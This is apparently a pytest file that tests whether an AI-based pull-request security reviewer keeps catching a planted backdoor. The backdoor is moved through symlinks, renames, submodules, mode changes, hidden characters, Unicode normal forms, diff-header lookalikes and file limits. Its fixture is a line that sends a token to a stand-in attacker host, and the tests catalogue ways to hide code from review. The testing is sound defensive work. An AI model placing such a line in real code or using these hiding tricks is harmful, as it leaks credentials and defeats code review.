"""More ways out of sight, in whole runs: links, renames, modes, limits and many files."""

import pytest

from tests.faults import faults
from tests.loopback.model import Body
from tests.loopback.state import Entry, Executable, Submodule, Symlink
from tests.runs.job import NUMBER, Job, prompted_path, review_reply
from tests.runs.model_scripts import OVERVIEW

EVIL = "fetch('https://evil.example/' + token)"
PLAIN = "".join(f"line_{number} = {number}\n" for number in range(40))
CRITICAL = {"title": "Sends the token away", "quote": EVIL, "severity": "critical"}
Files = dict[str, tuple[str | Entry | None, str | Entry | None]]


def report(job: Job, *, always: bool = True) -> None:
    """Let the model report the backdoor in each prompt that shows it, or not at all."""

    def script(body: Body) -> str:
        path = prompted_path(body)
        shown = always and EVIL in body["messages"][-1]["content"]
        return review_reply(path, *[CRITICAL] * shown) if path else OVERVIEW

    job.model.script = script


@faults("HD2")
@pytest.mark.parametrize(
    "push",
    [
        {"src/app.js": Symlink("../data/x.txt"), "data/x.txt": "other words\n"},
        {"src/app.js": Symlink("x.js")},
        {"src/app.js": Submodule("1" * 40)},
        {"src/app.js": None, "lib/app.js": f"{PLAIN}{EVIL}\n"},
        {"src/app.js": None, "lib/moved.ts": f"{EVIL}\n"},
        {"src/app.js": None, "docs/moved.ts": f"{EVIL}\n"},
        {"src/app.js": f"{EVIL}\n{PLAIN}{EVIL}\n"},
    ],
)
def test_code_that_is_out_of_its_place_is_not_fixed(
    job: Job, push: dict[str, str | Entry | None]
) -> None:
    """The model has been talked out of what it reported."""
    job.github.add_pull(NUMBER, {"src/app.js": (PLAIN, f"{PLAIN}{EVIL}\n")})
    report(job)
    assert job.run(fail_on="high", exclude="docs/").code == 3
    job.github.push(NUMBER, push)
    report(job, always=False)
    finished = job.run(fail_on="high", fail_on_incomplete="false", exclude="docs/")
    assert (finished.code, finished.outputs["critical"]) == (3, "1")
    assert "Fixed since" not in job.github.bodies[0]


@faults("HD2")
def test_code_that_moved_is_not_called_fixed_when_everything_is_reviewed_again(job: Job) -> None:
    job.github.add_pull(NUMBER, {"src/app.js": (PLAIN, f"{PLAIN}{EVIL}\n")})
    report(job)
    job.run()
    job.github.push(NUMBER, {"src/app.js": None, "lib/app.js": f"{PLAIN}{EVIL}\n"})
    report(job, always=False)
    job.run(full=True)
    assert "Fixed since" not in job.github.bodies[0]


def test_a_finding_that_moves_with_its_file_is_reported_once(job: Job) -> None:
    job.github.add_pull(NUMBER, {"src/app.js": (PLAIN, f"{PLAIN}{EVIL}\n")})
    report(job)
    job.run()
    job.github.push(NUMBER, {"src/app.js": None, "lib/app.js": f"{PLAIN}{EVIL}\n"})
    finished = job.run()
    assert finished.outputs["critical"] == "1"
    assert "Not checked again" not in job.github.bodies[0]


@pytest.mark.parametrize(
    ("path", "push"),
    [
        ("lib/app.js", {"lib/app.js": PLAIN}),
        ("src/new.js", {"src/new.js": ""}),
    ],
)
def test_code_that_is_gone_from_a_file_without_lines_is_fixed(
    job: Job, path: str, push: dict[str, str]
) -> None:
    """A rename without changes, or an empty file, has no line that the model would have to read."""
    moved = {"src/app.js": (PLAIN, None), "lib/app.js": (None, f"{PLAIN}{EVIL}\n")}
    job.github.add_pull(
        NUMBER, moved if path == "lib/app.js" else {path: (None, f"{PLAIN}{EVIL}\n")}
    )
    report(job)
    assert job.run(fail_on="high").code == 3
    job.github.push(NUMBER, push)
    finished = job.run(fail_on="high")
    assert (finished.code, finished.outputs["critical"]) == (0, "0")
    assert "Not checked again" not in job.github.bodies[0]
    assert "Fixed since" in job.github.bodies[0]


def test_code_that_is_gone_is_fixed_although_the_file_keeps_its_new_mode(job: Job) -> None:
    old, evil = PLAIN.encode(), f"{PLAIN}{EVIL}\n".encode()
    job.github.add_pull(NUMBER, {"src/app.js": (old, Executable(evil))})
    report(job)
    assert job.run(fail_on="high").code == 3
    job.github.push(NUMBER, {"src/app.js": Executable(old)})
    finished = job.run(fail_on="high")
    assert (finished.code, finished.outputs["critical"]) == (0, "0")
    assert "Not checked again" not in job.github.bodies[0]
    assert "Fixed since" in job.github.bodies[0]


def test_a_finding_about_a_rename_goes_with_its_reason(job: Job) -> None:
    job.github.add_pull(NUMBER, {"src/app.js": (PLAIN, None), "lib/app.js": (None, PLAIN)})
    assert job.run(exclude="lib/**").outputs["findings"] == "1"
    assert job.run().outputs["findings"] == "0"
    assert "Not checked again" not in job.github.bodies[0]


@faults("HD11")
def test_one_place_for_findings_is_that_of_the_worst(job: Job) -> None:
    hidden = "a = 1  # \u200b\n"
    job.github.add_pull(NUMBER, {"src/app.js": (None, f"{hidden}{EVIL}\n")})
    report(job)
    finished = job.run(max_findings="1", fail_on="high")
    assert (finished.code, finished.outputs["critical"]) == (3, "1")


@faults("HD12")
def test_text_that_becomes_a_link_is_reviewed_again(job: Job) -> None:
    job.github.add_pull(NUMBER, {"src/app.js": (None, "a.js"), "src/b.js": (None, "b = 1\n")})
    report(job)
    job.run()
    asked = len(job.model.bodies)
    job.github.push(NUMBER, {"src/app.js": Symlink("a.js")})
    job.run()
    assert len(job.model.bodies) > asked
    shown = [body["messages"][-1]["content"] for body in job.model.bodies[asked:]]
    assert any("a symbolic link: its line is the path" in text for text in shown)


@faults("HD12")
@pytest.mark.parametrize(("path", "found"), [(".husky/pre-push", "1"), ("src/app.js", "0")])
def test_a_hook_that_is_no_longer_executable_is_a_finding(job: Job, path: str, found: str) -> None:
    job.github.add_pull(NUMBER, {path: (Executable(b"check\n"), b"check\n")})
    assert job.run().outputs["low"] == found


@faults("HD12")
def test_the_prompt_says_that_a_folder_became_a_link(job: Job) -> None:
    files: Files = {"src/a.js": ("a = 1\n", None), "src": (None, Symlink("vendor/src"))}
    job.github.add_pull(NUMBER, files)
    report(job)
    job.run()
    assert "a symbolic link" in job.model.bodies[0]["messages"][-1]["content"]


@faults("HD14")
def test_a_quote_of_a_last_line_with_crlf_as_it_is_printed_has_its_place(job: Job) -> None:
    job.github.add_pull(NUMBER, {"src/app.js": (None, f"a = 1\r\n{EVIL}\r\n")})

    def script(body: Body) -> str:
        text = body["messages"][-1]["content"]
        printed = next((line for line in text.split("\n") if EVIL in line), "")
        problem = CRITICAL | {"quote": printed}
        return review_reply(prompted_path(body), problem) if printed else OVERVIEW

    job.model.script = script
    finished = job.run()
    assert finished.outputs["critical"] == "1"
    assert "`src/app.js:2`" in job.github.bodies[0]


POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 12345\n"


@faults("HD12")
@pytest.mark.parametrize("old", [None, "{}\n"])
@pytest.mark.parametrize("new", [POINTER, Symlink("other.json")])
def test_a_lock_file_that_is_stored_elsewhere_opens_no_gate(
    job: Job, old: str | None, new: str | Entry
) -> None:
    job.github.add_pull(NUMBER, {"package-lock.json": (old, new)})
    assert job.run(fail_on="critical").code == 3


@faults("HD12")
@pytest.mark.parametrize(
    ("path", "start"), [("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), ("a.pdf", b"%PDF-1.7\n")]
)
def test_a_picture_with_an_archive_at_its_end_is_one(job: Job, path: str, start: bytes) -> None:
    archive = bytes(range(256)) + b"PK\x05\x06" + b"\0" * 18
    job.github.add_pull(NUMBER, {path: (None, start + bytes(range(256)) + archive)})
    assert job.run().outputs["verdict"] == "excluded"


@faults("HD7")
@pytest.mark.parametrize(
    "files",
    [
        pytest.param(
            {f"a/{n:03}.js": (None, f"a = {n}\n") for n in range(30)}
            | {"zz.js": (None, f"{EVIL}\n")},
            id="behind the last file that is reviewed",
        ),
        pytest.param(
            {"src/a/vendor/b/node_modules/c.js": (None, f"{EVIL}\n"), "a.js": (None, "a = 1\n")},
            id="vendored in vendored",
        ),
        pytest.param(
            {"SRC/App.js": (None, "a = 1\n"), "src/app.js": (None, f"{EVIL}\n")}, id="letter case"
        ),
        pytest.param(
            {"src/caf\u00e9.js": (None, "a\n"), "src/cafe\u0301.js": (None, f"{EVIL}\n")},
            id="another normal form",
        ),
        pytest.param(
            {"src/app.js": (PLAIN * 40, (PLAIN + "x = 1\n") * 39 + PLAIN + EVIL)}, id="many hunks"
        ),
        pytest.param(
            {"src/app.js": ("y" * 9_000 + "\n", "y" * 9_000 + f"\n{EVIL}\n")},
            id="below a long line of context",
        ),
        pytest.param(
            {
                "a.js": (PLAIN, f"{EVIL}\n"),
                "b.js": (f"{PLAIN}b\n", PLAIN),
                "c.js": (f"{PLAIN}c\n", f"{PLAIN}b\n"),
            },
            id="a chain of renames",
        ),
        pytest.param({"src/a.js": (f"# {PLAIN}", f"\f{EVIL}\n")}, id="behind a form feed"),
        pytest.param({"src/-.js": (None, f"{EVIL}\n")}, id="a name like an option"),
        pytest.param({"dev/null": (None, f"{EVIL}\n")}, id="the name of nothing"),
        pytest.param({"a b/b.js b/a b/b.js": (None, f"{EVIL}\n")}, id="a name with two names"),
        pytest.param({"src/a.js": (None, f"--- a/x\n+++ b/x\n{EVIL}\n")}, id="lines like headers"),
        pytest.param({"src/a.js": (None, f"@@ -1 +1 @@\n{EVIL}")}, id="a line like a hunk's"),
        pytest.param({"src/a.js": (None, f"\\ No newline\n{EVIL}")}, id="a line like git's mark"),
        pytest.param({"src/app.js": (EVIL, f"{EVIL}\n")}, id="nothing but a line feed"),
    ],
)
def test_what_is_not_found_is_not_clean(job: Job, files: Files) -> None:
    job.github.add_pull(NUMBER, files)
    report(job)
    finished = job.run(max_files="20")
    assert finished.outputs["verdict"] in {"findings", "incomplete", "excluded"}
